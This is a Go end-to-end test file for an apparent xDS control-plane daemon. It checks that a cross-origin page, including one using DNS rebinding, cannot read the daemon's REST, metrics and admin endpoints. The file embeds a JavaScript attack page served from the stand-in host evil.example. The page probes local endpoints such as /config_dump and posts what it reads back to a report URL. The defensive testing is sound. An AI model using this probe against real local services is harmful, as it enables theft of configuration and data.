package e2e

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/chancery-xds/chancery/e2e/harness"
)

// attack is a page that sends requests to all targets in each way that needs no click, and reports what it can
// read.
const attack = `<!doctype html><script>
const targets = %s;
const ways = [
	{method: "GET"}, {method: "GET", mode: "no-cors"},
	{method: "POST", body: '{"node":{"id":"page"}}', headers: {"Content-Type": "text/plain"}},
	{method: "POST", body: '{"node":{"id":"page"}}', headers: {"Content-Type": "text/plain"}, mode: "no-cors"},
	{method: "POST", body: '{"node":{"id":"page"}}', headers: {"Content-Type": "application/json"}},
];
const read = async (url, way) => {
	const of = {url, way: way.method + " " + (way.mode || "cors") + " " + (way.headers ? way.headers["Content-Type"] : "")};
	try {
		const r = await fetch(url, {...way, signal: AbortSignal.timeout(5000)});
		return {...of, status: r.status, text: await r.text()};
	} catch (e) {
		return {...of, error: String(e)};
	}
};
const listen = url => new Promise(done => {
	const of = {url, way: "EventSource"}, events = new EventSource(url);
	events.onopen = () => { events.close(); done({...of, status: 200, text: "open"}); };
	events.onerror = () => { events.close(); done({...of, error: "closed"}); };
});
(async () => {
	const all = await Promise.all(targets.flatMap(url => [listen(url), ...ways.map(way => read(url, way))]));
	await fetch("/report", {method: "POST", body: JSON.stringify(all)});
})();
</script>`

// A reading is the result of one request of the page. A status of 0 means that the page could read nothing.
type reading struct {
	URL, Way, Text, Error string
	Status                int
}

// browse opens a page of the host evil.example in a browser, and returns its report. The browser resolves
// evil.example:PORT by the rules.
func browse(t *testing.T, page string, reports <-chan []reading, rules ...string) []reading {
	t.Helper()
	const browser = installed + "/browser"
	harness.Needs(t, browser)
	dir, err := filepath.Abs(browser)
	if err != nil {
		t.Fatal(err)
	}
	home := t.TempDir()
	cmd := exec.Command(filepath.Join(dir, "chromium"), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
		"--user-data-dir="+home, "--host-resolver-rules="+strings.Join(rules, ","), "--remote-debugging-port=0", page)
	cmd.Env = append(os.Environ(), "HOME="+home, "LD_LIBRARY_PATH="+filepath.Join(dir, "lib"))
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	harness.DieWithParent(cmd)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) // its children write files, too
		_ = cmd.Wait()
		for range 100 {
			if os.RemoveAll(home) == nil {
				return
			}
			time.Sleep(50 * time.Millisecond) // a child is still ending
		}
	}()
	select {
	case all := <-reports:
		return all
	case <-time.After(60 * time.Second):
		t.Fatal("the page reports nothing")
	}
	return nil
}

// evil serves the page and takes its report. Other requests go to the server behind it, as they are, if there is
// one.
func evil(t *testing.T, targets []string, behind string) (addr string, reports <-chan []reading) {
	t.Helper()
	list, err := json.Marshal(targets)
	if err != nil {
		t.Fatal(err)
	}
	out := make(chan []reading, 1)
	mux := http.NewServeMux()
	mux.HandleFunc("/attack", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, attack, list)
	})
	mux.HandleFunc("/report", func(_ http.ResponseWriter, r *http.Request) {
		var all []reading
		if err := json.NewDecoder(r.Body).Decode(&all); err != nil {
			t.Error(err)
		}
		out <- all
	})
	if behind != "" {
		mux.Handle("/", &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
			r.SetURL(&url.URL{Scheme: "http", Host: behind})
			r.Out.Host = r.In.Host
		}})
	}
	s := httptest.NewServer(mux)
	t.Cleanup(s.Close)
	return s.Listener.Addr().String(), out
}

// A page of another origin reads nothing from any listener.
func TestBrowser(t *testing.T) {
	t.Parallel()
	free := func() string { return fmt.Sprintf("127.0.0.1:%d", freePort(t)) }
	rest, metrics, admin := free(), free(), free()
	d := newDaemon(t, newWorld(edsCluster("backend", time.Second)), renamed, "--rest-listen", rest, "--metrics-listen", metrics, "--admin-listen", admin)
	paths := map[string][]string{
		rest:     {"/v3/discovery:clusters"},
		metrics:  {"/metrics", "/readyz?verbose", "/healthz", "/debug/pprof/cmdline"},
		admin:    {"/", "/version", "/api/v1/status", "/api/v1/resources", "/api/v1/events", "/config_dump"},
		d.addr(): {"/", "/envoy.service.cluster.v3.ClusterDiscoveryService/FetchClusters"},
	}
	var all []string
	for addr, of := range paths {
		for _, path := range of {
			all = append(all, "http://"+addr+path)
		}
	}
	// The page can read another server that allows this: so the page works.
	open := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Headers", "*")
		w.Header().Set("Content-Type", "text/event-stream")
		fmt.Fprint(w, "data: open to all\n\n")
	}))
	t.Cleanup(open.Close)

	t.Run("SAFE-16 a page of another origin", func(t *testing.T) {
		at, reports := evil(t, append(all, open.URL), "")
		_, port, _ := net.SplitHostPort(at)
		got := 0
		for _, r := range browse(t, "http://evil.example:"+port+"/attack", reports, "MAP evil.example 127.0.0.1") {
			switch {
			case r.URL == open.URL && r.Status == 200:
				got++
			case r.Text != "" || r.Status != 0:
				t.Errorf("the page reads %+v", r)
			}
		}
		if got < 4 {
			t.Errorf("the page reads %d responses of a server that is open to all", got)
		}
	})
	// The name of the page resolves to the server, after the page was loaded: the browser takes the server for the
	// origin of the page.
	for name, addr := range map[string]string{"REST": rest, "metrics": metrics, "admin": admin} {
		t.Run("SAFE-16 DNS rebinding to "+name, func(t *testing.T) {
			at, reports := evil(t, paths[addr], addr)
			_, port, _ := net.SplitHostPort(addr)
			for _, r := range browse(t, "http://evil.example:"+port+"/attack", reports, "MAP evil.example:"+port+" "+at) {
				refused := r.Status == http.StatusForbidden || r.Status == http.StatusMethodNotAllowed // a GET of REST-JSON
				if !refused && (r.Status != 0 || r.Way != "EventSource") {
					t.Errorf("the page reads %+v", r)
				}
			}
		})
	}
}
